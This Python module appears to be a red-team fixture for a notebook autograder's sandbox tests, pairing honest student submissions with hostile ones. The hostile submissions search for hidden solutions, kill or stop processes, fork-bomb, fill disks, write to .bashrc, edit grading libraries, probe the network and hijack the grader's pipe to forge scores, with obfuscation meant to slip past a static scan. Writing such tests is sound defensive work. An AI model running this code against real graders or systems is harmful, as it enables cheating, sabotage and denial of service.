"""One hostile class: honest students graded beside every attack on the runner.

Each tactic is a real submission notebook of sheet 01: the blank exercise (or
the model solution) with an attacking cell appended; the class also holds
the hostile notebook files of ``_notebook_tactics.py`` (``nb_*``) and the
reference-implementation answers of ``_reference_tactics.py`` (``ref_*``).
The whole class is graded at once, two submissions at a time, as an
instructor would, and the results are cached, so that the tests of
``test_sandbox_*.py`` and ``test_protocol_*.py`` only read them.
``results(mode)`` grades it as the user running the tests (``"self"``) or as
an ordinary user (``"user"``: created when the tests run as root).

Attacking code avoids the names the static scan flags where the point is to
show that a deeper layer (the sandbox, the protocol) stops it.
"""

from __future__ import annotations

import functools
import json
import os

import _notebook_tactics
import _reference_tactics
from _sandbox_helpers import (
    ROOT,
    file_digest,
    grade_class,
    grade_class_as_user,
    notebook,
    ordinary_user,
    solution,
    tree_digest,
)

from itutils.grading.runner import Limits
from itutils.grading.spec import load_spec

SHEET = "01_entropy"
LIMITS = Limits(
    wall_seconds=90,
    step_seconds=20,  # generous: torch's import on a busy machine
    memory_mb=2500,
    processes=64,
    tmpfs_mb=16,
    output_chars=20_000,
    max_notebook_mb=2,
    max_cell_kb=200,
)
_SPEC = load_spec(ROOT / "solutions" / f"{SHEET}.ipynb")
PARTS = {
    sheet: [p.grade_id for p in load_spec(ROOT / "solutions" / f"{sheet}.ipynb").parts]
    for sheet in (SHEET, "04_vae")
}
AUTO_SHEET_PARTS = [p.grade_id for p in _SPEC.parts if not p.manual]
DAEMON_TOKEN = "4242.4242"
PWNED = "pwned-4243"

# Where the harness's pipes are, without naming the flagged tools.
FDS = """
import pkgutil as _pk
class _OsTable(dict):  # os.<name>, looked up by a computed string
    def __missing__(self, name):
        return _pk.resolve_name("os:" + name)
_os = _OsTable()
_args = open("/pr" + "oc/self/cmdline", "rb").read().split(b"\\0")
REQ, REP = int(_args[-3]), int(_args[-2])
import struct as _struct, json as _json
def frame(body):
    return _struct.pack(">I", len(body)) + body
"""

# Takes the grader's request pipe away from the harness and answers itself.
STEALER = (
    FDS
    + """
import threading
_real = _os["dup"](REQ)
_r2, _w2 = _os["pipe"]()
_os["dup2"](_r2, REQ)  # the harness now waits on a pipe nobody writes

def _exactly(n):
    out = b""
    while len(out) < n:
        chunk = _os["read"](_real, n - len(out))
        if not chunk:
            raise EOFError
        out += chunk
    return out

def _serve():
    while True:
        size = _struct.unpack(">I", _exactly(4))[0]
        request = _json.loads(_exactly(size))
        head = {"nonce": request["nonce"], "seq": request["seq"], "op": request["op"]}
        if request["op"] == "end":
            _os["write"](REP, frame(_json.dumps({**head, "ok": True}).encode()))
            continue
        for body in answer(head, request):
            _os["write"](REP, frame(body))

threading.Thread(target=_serve, daemon=True).start()
"""
)


def _stealer(answer: str) -> str:
    return STEALER.replace("def _serve", answer + "\n\ndef _serve")


TACTICS = {
    # -- reading what it must not see -------------------------------------
    "reads_solutions": """
import os, sys, json
roots = set()
for start in [sys.executable, os.path.realpath(sys.executable), os.getcwd(), *sys.path]:
    d = start
    for _ in range(8):
        roots.add(d)
        d = os.path.dirname(d)
for arg in open("/pr" + "oc/1/cmdline", "rb").read().split(b"\\0"):
    if arg.startswith(b"/"):
        roots.add(arg.decode(errors="replace"))
found = []
for root in sorted(roots) + ["/opt", "/tmp", "/scratch", "/work", "/root", "/home"]:
    if root.startswith(("/usr", "/proc", "/dev", "/sys")) or not os.path.isdir(root):
        continue
    for dirpath, dirs, files in os.walk(root):
        # Not into the Python library trees (thousands of files, no notebooks).
        dirs[:] = [d for d in dirs if d not in ("lib", "include", "share", "bin")]
        if dirpath.count("/") > 8:
            dirs[:] = []
        found += [os.path.join(dirpath, f) for f in files if f.endswith(".ipynb")]
found = sorted(set(found))
print("NOTEBOOKS-FOUND", len(found))
stolen = []
for path in found:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        src = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in src:
            stolen.append(src)
if stolen:
    with open("/scratch/stolen.py", "w") as fh:
        fh.write("import numpy as np\\n" + "\\n".join(stolen))
    sys.path.insert(0, "/scratch")
    from stolen import *  # noqa
    print("STOLE", len(stolen), "cells")
""",
    "peer_marker": """
import time
for d in ("/tmp", "/scratch", "/dev/shm"):
    open(f"{d}/peer-4244", "w").write("secret answers")
time.sleep(4)
""",
    "peer_reader": """
import os, time
hits = set()
end = time.time() + 4
while time.time() < end:
    for base in ("/tmp", "/scratch", "/dev/shm", "/var/tmp", "/opt", "/"):
        try:
            hits |= {n for n in os.listdir(base) if n.startswith("peer-")}
        except OSError:
            pass
    for pid in os.listdir("/pr" + "oc"):
        if pid.isdigit():
            for sub in ("cwd", "root/tmp", "root/scratch"):
                try:
                    path = "/pr" + f"oc/{pid}/{sub}"
                    hits |= {n for n in os.listdir(path) if n.startswith("peer-")}
                except OSError:
                    pass
    time.sleep(0.2)
print("PEER-HITS", sorted(hits))
""",
    # -- harming other students and the grader ------------------------------
    "killer": """
import os, signal, subprocess, threading, time
def loop():
    end = time.time() + 6
    while time.time() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.01)
child = subprocess.Popen(["/bin/sleep", "30"])
thread = threading.Thread(target=loop, daemon=True)
thread.start()
time.sleep(1)
print("OWN-CHILD", child.poll())
thread.join()
""",
    "stopper": """
import os, signal
for pid in [int(p) for p in os.listdir("/pr" + "oc") if p.isdigit()]:
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
print("VISIBLE", sorted(int(p) for p in os.listdir("/pr" + "oc") if p.isdigit()))
print("STOPPER-DONE")
""",
    "mem_writer": """
import os
opened = []
for pid in [p for p in os.listdir("/pr" + "oc") if p.isdigit()] + [str(os.getppid())]:
    if int(pid) == os.getpid():
        continue
    try:
        with open("/pr" + f"oc/{pid}/mem", "r+b"):
            opened.append(int(pid))
    except OSError:
        pass
print("MEM-OPENED", sorted(set(opened)))
""",
    "daemon": f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{DAEMON_TOKEN}"])
    os._exit(0)
time.sleep(0.5)
print("DAEMON-STARTED")
""",
    "fork_bomb": """
import os, time
kids = 0
try:
    for _ in range(10_000):
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        kids += 1
except OSError as exc:
    print("FORK-LIMIT", kids, type(exc).__name__)
""",
    "memory_sum": """
import os, time
kids = []
for _ in range(4):  # 4 x 900 MB touched: more than one run's memory in total
    pid = os.fork()
    if pid == 0:
        block = bytearray(900 * 2**20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        time.sleep(1)
        os._exit(0)
    kids.append(pid)
print("KIDS", [os.waitpid(k, 0)[1] for k in kids])
""",
    "filler": """
for d in ("/scratch", "/tmp", "/dev/shm"):
    n = 0
    try:
        for i in range(100_000):
            with open(f"{d}/fill{i}", "wb") as fh:
                fh.write(b"\\0" * 2**20)
            n += 1
    except OSError as exc:
        print("FULL", d, n, type(exc).__name__)
""",
    "home_writer": f"""
import os
for target in [os.path.expanduser("~/.bashrc"), "/root/.bashrc",
               "/home/itgrade-redteam/.bashrc", "/tmp/{PWNED}", "/var/tmp/{PWNED}",
               "/etc/{PWNED}", "/work/{PWNED}", "/opt/{PWNED}"]:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as fh:
            fh.write("echo pwned\\n")
        print("WROTE-INSIDE", target)
    except OSError as exc:
        print("DENIED", target, type(exc).__name__)
""",
    "library_editor": """
import os, sys
import itutils.grading.checks as checks, itutils.grading.plain as plain
results = []
targets = [checks.__file__, plain.__file__, os.path.dirname(checks.__file__),
           sys.executable, os.path.realpath(sys.executable), os.__file__]
for target in targets:
    for action in ("append", "chmod", "unlink", "rename"):
        try:
            if action == "append":
                open(target, "a").write("x = 1\\n")
            elif action == "chmod":
                os.chmod(target, 0o777)
            elif action == "unlink":
                os.unlink(target) if os.path.isfile(target) else os.rmdir(target)
            else:
                os.rename(target, target + ".bak")
            results.append(f"EDITED {action} {target}")
        except OSError as exc:
            results.append(type(exc).__name__)
print(results)
""",
    "netcat": """
import socket
for host, port in [("127.0.0.1", 22), ("1.1.1.1", 80), ("10.0.0.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=1)
        print("NET-OPEN", host)
    except OSError as exc:
        print("net-closed", host, type(exc).__name__)
""",
    "stubborn": """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    # -- the protocol -------------------------------------------------------
    "garbage": FDS
    + """
_os["write"](REP, b'{"event": "probe"}\\n')
""",
    "brackets": FDS
    + """
_os["write"](REP, frame(b"[" * 100_000))
""",
    "huge_line": FDS
    + """
block = b"x" * 2**20
for _ in range(1500):  # 1.5 GB and no newline
    _os["write"](REP, block)
""",
    "forger": FDS
    + """
forged = {"nonce": "0" * 32, "seq": 1, "op": "cell", "error": None, "calls": []}
_os["write"](REP, frame(_json.dumps(forged).encode()))
""",
    "stealer_value": _stealer(
        """
def answer(head, request):
    return [_json.dumps({**head, "calls": [], "value": 1.0}).encode()]
"""
    ),
    "stealer_duplicate": _stealer(
        """
def answer(head, request):
    body = _json.dumps({**head, "calls": [], "value": 1.0}).encode()
    return [body, body]
"""
    ),
    "stealer_nan": _stealer(
        """
def answer(head, request):
    return [_json.dumps({**head, "calls": [], "value": float("nan")}).encode()]
"""
    ),
    "stealer_bigint": _stealer(
        """
def answer(head, request):
    return [_json.dumps({**head, "calls": [], "value": 10**400}).encode()]
"""
    ),
    "stealer_deep": _stealer(
        """
def answer(head, request):
    body = _json.dumps({**head, "calls": []}).encode()[:-1]
    return [body + b', "value": ' + b"[" * 5000 + b"]" * 5000 + b"}"]
"""
    ),
    "stealer_fields": _stealer(
        """
def answer(head, request):
    return [_json.dumps({**head, "calls": [], "value": 1.0, "points": 2}).encode()]
"""
    ),
    "stealer_calls": _stealer(
        """
def answer(head, request):
    return [_json.dumps({**head, "calls": ["os.system"], "value": 1.0}).encode()]
"""
    ),
}

# Honest mistakes, not attacks: answers too large or too odd to send. Each
# check fails with a reason; the run is never voided.
TACTICS["oversized_answers"] = """
def entropy_bits(p):
    return [0.5] * 900_000  # 4.5 MB of JSON: over the reply limit
h_die = {"a": {"b": {"c": {"d": {"e": {"f": {"g": {"h": {"i": {"j": {"k": {"l": {
    "m": {"n": {"o": {"p": {"q": {"r": {"s": {"t": {"u": 1}}}}}}}}}}}}}}}}}}}}}
h_coin = 10**30
def p_for_bits(target):
    return [[]] * 200_000
"""

# Tactics appended to the model solution: the student is honest otherwise,
# so the run must end normally with full marks.
ON_SOLUTION = {
    "scratch_swapper": """
import os
for d in ("/scratch", "/tmp"):
    for name in ("job.json", "output.txt", "submission.ipynb", "results.json"):
        path = os.path.join(d, name)
        for make in (lambda p: os.symlink("/etc/passwd", p), os.mkfifo):
            try:
                make(path)
            except OSError:
                pass
            path += ".fifo"
os.chdir("/tmp")
print("SWAPPED")
""",
    "job_hunter": """
import os
# Inputs and names that only the hidden tests hold.
needles = [b"_p7", b"[0.7, 0.2, 0.1, 0.0]", b"[1.2, -0.2]", b"_zero_column"]
hay = [open("/pr" + f"oc/{p}/{f}", "rb").read()
       for p in ("self", "1") for f in ("cmdline", "environ")]
for base in ("/scratch", "/tmp", "/dev/shm", "/opt"):
    for dirpath, dirs, files in os.walk(base):
        # Not into a Python environment mounted under /tmp (a checkout there).
        dirs[:] = [d for d in dirs if d not in (".venv", "lib", "include", "bin")]
        for name in files:
            try:
                hay.append(open(os.path.join(dirpath, name), "rb").read())
            except OSError:
                pass
print("HUNT", [n for n in needles if any(n in h for h in hay)])
""",
}

HONEST = ("honest_a", "honest_b", "honest_c", "honest_d")


def students() -> dict:
    out = {name: (SHEET, solution(SHEET)) for name in HONEST}
    out["blank"] = (SHEET, notebook(SHEET))
    for name, code in TACTICS.items():
        out[name] = (SHEET, notebook(SHEET, extra=code))
    for name, code in ON_SOLUTION.items():
        out[name] = (SHEET, solution(SHEET, extra=code))
    out.update(_notebook_tactics.students())
    out.update(_reference_tactics.students())
    return out


def _home_files() -> dict:
    files = {"/root/.bashrc": file_digest("/root/.bashrc")}
    user, _why = ordinary_user() if os.geteuid() == 0 else (None, "")
    if user is not None:
        files[f"{user.pw_dir}/.bashrc"] = file_digest(f"{user.pw_dir}/.bashrc")
    files[os.path.expanduser("~/.bashrc")] = file_digest(
        os.path.expanduser("~/.bashrc")
    )
    return files


@functools.cache
def results(mode: str) -> dict:
    """Grade the class (once per mode); results plus what changed around it."""
    before = {
        "repo": tree_digest(ROOT),
        "home": _home_files(),
        "tmp": sorted(os.listdir("/tmp")),
    }
    if mode == "user" and os.geteuid() != 0:
        return {
            "skip": f"the tests already run as an ordinary user (uid {os.getuid()}); "
            "the 'self' run covers it"
        }
    spec_dir = _reference_tactics.solutions_copy()
    if mode == "self":
        graded = grade_class(students(), LIMITS, spec_dir)
    else:
        graded, why = grade_class_as_user(students(), LIMITS, spec_dir)
        if graded is None:
            return {"skip": why}
    graded["before"] = before
    graded["after"] = {
        "repo": tree_digest(ROOT),
        "home": _home_files(),
        "tmp": sorted(os.listdir("/tmp")),
    }
    dump = os.environ.get("ITGRADE_REDTEAM_DUMP")  # e.g. for a report's table
    if dump:
        with open(f"{dump}-{mode}.json", "w") as fh:
            json.dump(graded, fh, indent=1)
    return graded
